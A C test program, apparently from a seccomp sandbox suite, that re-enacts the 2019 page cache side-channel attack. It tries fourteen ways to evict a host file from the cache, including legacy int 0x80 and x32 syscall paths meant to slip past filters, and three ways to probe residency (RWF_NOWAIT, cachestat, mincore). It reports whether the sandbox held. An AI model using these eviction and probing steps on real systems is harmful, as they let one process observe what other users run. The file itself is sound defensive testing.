// attack: watching what others read by the page cache
// tries: Throws a file of the host out of the page cache (posix_fadvise, MADV_PAGEOUT, MADV_COLD, MADV_REMOVE, direct reads, sync_file_range) and asks whether it is in it without
//   fetching it (preadv2 with RWF_NOWAIT, mincore, cachestat): whoever can do both sees which programs neighbours start. By the old doors, too.
// source: Gruss and others, "Page Cache Attacks" (2019), CVE-2019-5489 (mincore)
// expect: nothing is thrown out, no question is answered; mincore says of foreign files that all is there
// stopped-by: seccomp
// without: seccomp
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static char buffer[1 << 16] __attribute__((aligned(4096)));

/// Microseconds that it takes to read the whole file would tell, too; here only what answers for sure.
static int asked(int fd, char *map, long size) {
    struct iovec into = {buffer, 4096};
    for (int high = 0; high < 2; high++) {
        long got = syscall(SYS_preadv2, fd, &into, 1, 0, 0, 8 | (high ? 0x100000000 : 0));
        if (got >= 0 || errno == EAGAIN) return printf("broke: RWF_NOWAIT says that the file is %s the cache\n", got >= 0 ? "in" : "not in"), 99;
    }
    struct { unsigned long offset, length; } range = {0, size};
    if (syscall(451, fd, &range, buffer, 0) == 0) return printf("broke: cachestat counts %lu pages\n", *(unsigned long *)buffer), 99;
    unsigned char pages[64];
    if (mincore(map, size, pages) == 0)
        for (long i = 0; i < (size + 4095) / 4096; i++)
            if (!(pages[i] & 1)) return printf("broke: mincore says that page %ld is not in the cache\n", i), 99;
    return 0;
}

int main(void) {
    // Large enough to be worth it, and nobody's running program.
    const char *paths[] = {"/usr/share/perl/5.36.0/unicore/Name.pl", "/usr/share/common-licenses/GPL-3", "/usr/lib/python3.11/pydoc_data/topics.py", "/usr/share/perl5/Debconf/Db.pm", "/usr/bin/env"};
    int fd = -1, r;
    for (int i = 0; i < 5 && fd < 0; i++) fd = open(paths[i], O_RDONLY);
    struct stat status;
    if (fd < 0 || fstat(fd, &status)) return printf("unclear: no file\n"), 1;
    long size = status.st_size < 64 * 4096 ? status.st_size : 64 * 4096;
    char *map = mmap(0, size, PROT_READ, MAP_SHARED, fd, 0);
    for (long at = 0; at < size; at += 4096) pread(fd, buffer, 4096, at);
    if ((r = asked(fd, map, size))) return r;
    int advice[] = {MADV_COLD, MADV_PAGEOUT, MADV_REMOVE, MADV_DONTNEED, MADV_FREE};
    for (int i = 0; i < 5; i++) {
        madvise(map, size, advice[i]);
        if ((r = asked(fd, map, size))) return r;
    }
    for (int i = 0; i < 7; i++) {
        posix_fadvise(fd, 0, 0, i);
        syscall(SYS_fadvise64, fd, 0, 0, (long)i | 0x100000000);
        syscall(SYS_fadvise64 | 0x40000000, fd, 0, 0, i);
        long old, other;
        __asm__ volatile("int $0x80" : "=a"(old) : "a"(250), "b"(fd), "c"(0), "d"(0), "S"(0), "D"(i) : "r8", "r9", "r10", "r11", "memory");
        __asm__ volatile("int $0x80" : "=a"(other) : "a"(272), "b"(fd), "c"(0), "d"(0), "S"(0), "D"(0) : "r8", "r9", "r10", "r11", "memory");
        if ((int)old != -ENOSYS || (int)other != -ENOSYS) return printf("broke: fadvise by int 0x80: %d, %d\n", (int)old, (int)other), 99;
        if ((r = asked(fd, map, size))) return r;
    }
    int direct = open("/proc/self/fd/3", O_RDONLY | O_DIRECT);
    if (direct >= 0) pread(direct, buffer, 4096, 0);
    sync_file_range(fd, 0, 0, 7), readahead(fd, 0, 0);
    if ((r = asked(fd, map, size))) return r;
    printf("held: 14 ways to throw out, 3 questions\n");
    return 0;
}
